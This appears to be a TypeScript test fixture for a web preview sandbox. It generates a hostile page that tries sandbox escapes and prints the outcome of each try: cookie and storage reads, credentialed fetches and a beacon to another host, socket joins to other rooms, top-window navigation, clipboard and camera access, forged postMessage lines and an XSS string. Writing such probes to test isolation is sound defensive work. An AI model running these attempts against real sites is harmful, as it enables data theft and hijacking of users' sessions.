// A hostile client page: tries everything that a preview must not do, and prints what came of it.

/** `host`: another site. Each attempt prints `succeeded` or how it failed. */
export function attacks(host: string): string {
  return `<!doctype html>
<base href="${host}/base/">
<link rel="stylesheet" href="${host}/style.css">
<link rel="prefetch" href="${host}/prefetch">
<style>@import url("${host}/import.css"); @font-face { font-family: x; src: url("${host}/font") } p { font-family: x }</style>
<p style="background: url(${host}/background)">text</p>
<iframe name="inner"></iframe>
<form id="form" method="post" target="inner" action="${host}/form"><input name="secret" value="1"></form>
<a id="link" target="_top" href="${host}/link">link</a>
<a id="blank" target="_blank" href="${host}/blank">blank</a>
<script>
const outcomes = {};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const attempt = async (name, act) => {
  try { outcomes[name] = (await act()) ? "succeeded" : "failed"; }
  catch (error) { outcomes[name] = String(error?.name ?? error); }
};
/** Resolves to whether it loads. */
const loads = (tag, attributes) => new Promise((resolve) => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = () => resolve(true);
  element.onerror = () => resolve(false);
  document.body.append(element);
  setTimeout(resolve, 300, false);
});
const opens = (url) => new Promise((resolve, reject) => {
  const socket = new WebSocket(url);
  socket.onopen = () => resolve(true);
  socket.onerror = () => resolve(false);
});
const room = new URL(WS_URL);
const http = room.origin.replace("ws", "http");
const json = { "content-type": "application/json" };
const attempts = {
  cookie: () => document.cookie !== undefined,
  setCookie: () => { document.cookie = "mine=1"; return document.cookie.includes("mine"); },
  localStorage: () => localStorage.length >= 0,
  sessionStorage: () => sessionStorage.length >= 0,
  indexedDb: () => indexedDB.open("mine") instanceof IDBRequest,
  caches: () => caches.keys(),
  serviceWorker: () => navigator.serviceWorker.register(http + "/preload.js"),
  worker: () => loadsWorker("data:text/javascript,postMessage(1)"),
  blobWorker: () => loadsWorker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
  read: () => fetch(http + "/api/progress"),
  readWithCookie: () => fetch(http + "/api/progress", { credentials: "include" }),
  write: () => fetch(http + "/api/drafts", { method: "POST", headers: json, body: "{}" }),
  writeBlind: () => fetch(http + "/api/drafts", { method: "POST", mode: "no-cors", body: "{}", credentials: "include" }),
  ownDocument: () => fetch(location.href),
  live: () => opens(room.origin + "/live"),
  preflight: () => opens(room.origin + "/preflight/socket"),
  otherRoom: () => opens(WS_URL.replace(room.pathname, "/ws/AAAAAAAAAAAAAAAAAAAAAA")),
  besideRoom: () => opens(WS_URL.replace(room.pathname, room.pathname + "x")),
  otherSocket: () => opens("${host.replace("http", "ws")}/socket"),
  parentDocument: () => parent.document.body,
  parentName: () => parent.location.href,
  top: () => { top.location = "${host}/top"; return true; },
  topReplace: () => { top.location.replace("${host}/top-replace"); return true; },
  window: () => window.open("${host}/window"),
  windowTop: () => window.open("${host}/window-top", "_top"),
  elsewhere: () => fetch("${host}/fetch", { mode: "no-cors" }),
  module: () => import("${host}/module.js"),
  evaluate: () => eval("true"),
  image: () => loads("img", { src: "${host}/image" }),
  script: () => loads("script", { src: "${host}/script.js" }),
  ownScript: () => loads("script", { src: http + "/preload.js" }),
  frame: () => loads("embed", { src: "${host}/embed" }),
  audio: () => new Promise((resolve) => Object.assign(new Audio("${host}/audio"), { onerror: () => resolve(false), oncanplay: () => resolve(true) })),
  clipboard: () => navigator.clipboard.readText(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  fullscreen: () => document.documentElement.requestFullscreen(),
  confirm: () => confirm("sure?"),
};
const loadsWorker = (url) => new Promise((resolve) => {
  const worker = new Worker(url);
  worker.onmessage = () => resolve(true);
  worker.onerror = () => resolve(false);
});
addEventListener("load", async () => {
  for (const [name, act] of Object.entries(attempts)) await Promise.race([attempt(name, act), wait(1_000)]);
  form.submit();
  link.click();
  blank.click();
  navigator.sendBeacon("${host}/beacon", "1");
  const nested = document.createElement("iframe");
  nested.srcdoc = "<script>top.postMessage({ ws101: 'line', level: 'log', text: 'forged', line: null }, '*')<" + "/script>";
  document.body.append(nested);
  parent.postMessage({ ws101: "line", level: "loud", text: "forged", line: null }, "*");
  parent.postMessage({ ws101: "line", level: "log", text: "forged".repeat(1_000), line: null }, "*");
  parent.postMessage({ ws101: "line", level: "log", text: "forged", line: -1 }, "*");
  parent.postMessage({ ws101: "line", level: "log", text: "<img src=x onerror=alert(1)>", line: null }, "*");
  await wait(300);
  // Past the limit of the frame's console, which the blocked attempts have used up.
  parent.postMessage({ ws101: "line", level: "log", text: "outcomes " + JSON.stringify(outcomes), line: null }, "*");
  await wait(100);
  location.href = "${host}/leave";
});
</script>
`;
}
